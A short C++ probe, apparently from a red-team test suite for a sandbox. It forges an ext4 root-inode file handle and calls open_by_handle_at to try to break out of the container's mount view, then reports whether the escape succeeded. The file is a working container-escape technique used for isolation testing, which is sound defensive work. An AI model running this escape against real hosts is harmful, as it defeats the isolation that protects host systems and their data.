// Red-team bot (bots/attacks/README.md): open_by_handle_at reaches files outside any mount view.
#include <sys/syscall.h>

#include "attack.h"

struct handle {
  unsigned int handle_bytes;
  int handle_type;
  unsigned char f_handle[128];
};

int main() {
  rk::Request r = rk::read_request();
  handle h{};
  h.handle_bytes = 128;
  int mount_id = 0;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/proc/self/exe", &h, &mount_id, 0) != 0)
    rk::failed("name_to_handle_at: " + rk::errno_text());
  // The root folder of an ext4 file system has inode 2, generation 0.
  handle root{};
  root.handle_bytes = 8;
  root.handle_type = 1;
  unsigned int ino = 2;
  std::memcpy(root.f_handle, &ino, 4);
  int fd = static_cast<int>(syscall(SYS_open_by_handle_at, AT_FDCWD, &root, O_RDONLY | O_DIRECTORY));
  if (fd >= 0) rk::escaped(r, "open_by_handle_at opened inode 2 of a host file system");
  rk::failed("open_by_handle_at: " + rk::errno_text());
}
